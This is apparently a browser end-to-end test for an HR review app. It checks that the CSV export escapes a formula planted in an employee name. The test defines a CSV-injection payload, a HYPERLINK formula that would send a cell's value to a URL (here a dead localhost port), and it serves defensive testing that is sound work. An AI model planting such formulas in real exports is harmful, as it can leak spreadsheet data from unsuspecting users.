/**
 * The results page's CSV download in a real browser against the real server: an employee name
 * that is a spreadsheet formula (the hostile probe's `=HYPERLINK(…)`) is written with a leading
 * `'` so Excel shows it instead of running it; rank and total stay plain numbers.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../studio/src/lib/csv.ts';
import { login, openPage, useStudio } from './harness.ts';

const studio = useStudio();

const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"Click me")';

describe('results CSV export', () => {
  it('neutralises a formula in an employee name and keeps numbers numeric', async () => {
    // Rename the first result's employee through the API, as the probe did.
    const hr = studio.users.hr!;
    const loggedIn = await fetch(`${studio.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(hr) });
    const headers = { cookie: (loggedIn.headers.get('set-cookie') ?? '').split(';')[0]!, 'x-csrf-token': ((await loggedIn.json()) as { csrfToken: string }).csrfToken, 'content-type': 'application/json' };
    const cycles = (await (await fetch(`${studio.url}/api/cycles`, { headers })).json()) as { items: Array<{ id: string; title: string }> };
    const cycle = cycles.items.find((c) => c.title.includes('2026年10月'))!;
    const first = ((await (await fetch(`${studio.url}/api/cycles/${cycle.id}/results?sort=code&limit=1`, { headers })).json()) as { items: Array<{ employeeId: string; code: string; total: number }> }).items[0]!;
    const renamed = await fetch(`${studio.url}/api/employees/${first.employeeId}`, { method: 'PATCH', headers, body: JSON.stringify({ name: FORMULA }) });
    expect(renamed.status).toBe(200);

    const { page, errors, close } = await openPage(studio);
    try {
      await login(page, hr);
      await page.goto(`/cycles/${cycle.id}/results?sort=code`);
      await page.locator('main tbody tr').first().waitFor();
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: '导出（CSV）' }).click()]);
      const text = readFileSync((await download.path())!, 'utf8');
      const line = text.split('\r\n').find((l) => l.includes(`,${first.code},`))!;
      // rank, code, name, department, position, total, grade, status
      expect(line).toContain(`,${first.code},"'=HYPERLINK(""http://127.0.0.1:9/?x=""&A1,""Click me"")",`);
      const cells = parseCsv(line)[0]!;
      expect(cells[0]).toMatch(/^\d+$/);
      expect(cells[2]).toBe(`'${FORMULA}`);
      expect(cells[5]).toBe(String(first.total));
      expect(errors).toEqual([]);
    } finally {
      await close();
    }
  });
});
